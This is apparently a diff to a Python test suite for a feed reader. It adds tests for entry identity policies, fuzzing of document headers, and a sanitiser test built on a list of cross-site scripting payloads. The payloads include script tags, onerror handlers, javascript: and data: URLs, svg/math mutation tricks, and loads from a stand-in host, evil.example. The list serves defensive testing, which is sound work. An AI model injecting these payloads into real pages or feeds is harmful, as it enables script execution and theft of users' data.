@@ -1,3 +1,4 @@
+import html
 import json
 from datetime import UTC, datetime
 from pathlib import Path
@@ -383,5 +384,65 @@ PIECES = [
 def test_no_arrangement_of_tags_raises_anything_but_a_problem(pieces: list[str]) -> None:
     try:
         read_document(rss(*pieces), url=URL)
+    except ReadProblem:
+        return
+
+
+def keys(*items: str, identity: str = "") -> list[str]:
+    return [entry.key for entry in read_document(rss(*items), url=URL, identity=identity).entries]
+
+
+def test_a_policy_says_what_tells_entries_apart() -> None:
+    first, again = (item("A", guid=str(number), link="https://news.example/a") for number in range(2))
+    assert keys(first) != keys(again)
+    assert keys(first, identity="link") == keys(again, identity="link") == ["https://news.example/a"]
+    assert keys(item("A", guid="same"), identity="title") == keys(item("A", guid="same"), item("B", guid="same"))[:1]
+    assert keys(item("A", link="https://news.example/a"), identity="title") == ["https://news.example/a"]
+
+
+def test_titles_tell_entries_apart_once_most_of_them_share_an_id() -> None:
+    shared = [item(f"Title {number}", guid="same") for number in range(3)]
+    alone = [item(f"Other {number}", guid=str(number)) for number in range(3)]
+    assert read_document(rss(*shared, *alone[:2])).identity == "title"
+    assert read_document(rss(*shared, *alone)).identity == ""
+    assert read_document(rss(shared[0], shared[0])).identity == ""
+
+
+HOSTILE = [
+    "<script>steal()</script>",
+    "<img src=x onerror=steal()>",
+    "<a href='java&#x09;script:steal()'>Bay</a>",
+    "<svg><a xlink:href='javascript:steal()'>Bay</a><script>steal()</script></svg>",
+    "<iframe srcdoc='<script>steal()</script>'></iframe>",
+    "<style>@import 'https://evil.example/steal()'</style>",
+    "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
+    "<body onload=steal()>",
+    "<object data='data:text/html,<script>steal()</script>'></object>",
+    "<a href=\"data:text/html;base64,c3RlYWwoKQ==\" onclick='steal()'>Bay</a>",
+    "<template><script>steal()</script></template>",
+    "<!--><script>steal()</script>-->",
+    "<SCRIPT SRC=https://evil.example/steal()></SCRIPT>",
+]
+
+
+@pytest.mark.parametrize("markup", HOSTILE)
+@pytest.mark.parametrize("form", ["cdata", "escaped"])
+def test_nothing_executable_is_left_of_an_entry(markup: str, form: str) -> None:
+    written = f"<![CDATA[Bay {markup} Hill]]>" if form == "cdata" else html.escape(f"Bay {markup} Hill")
+    entry = only_entry(rss(item(written, description=written, link=html.escape("javascript:steal()"))))
+    assert entry.url == ""
+    for text in (entry.title, entry.summary, entry.text):
+        assert "steal" not in text
+        assert "<" not in text
+    assert entry.title.startswith("Bay")
+
+
+HEADS = [b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\x1b$B", b"<?xml version='1.0' encoding='big5'?>", b"{", b"<html><body>"]
+
+
+@given(st.sampled_from(HEADS), st.binary(max_size=120), st.sampled_from(["", "link", "title"]))
+def test_no_beginning_of_a_document_raises_anything_but_a_problem(head: bytes, body: bytes, identity: str) -> None:
+    try:
+        read_document(head + body + rss(item(guid="a")), url=URL, identity=identity)
     except ReadProblem:
         return
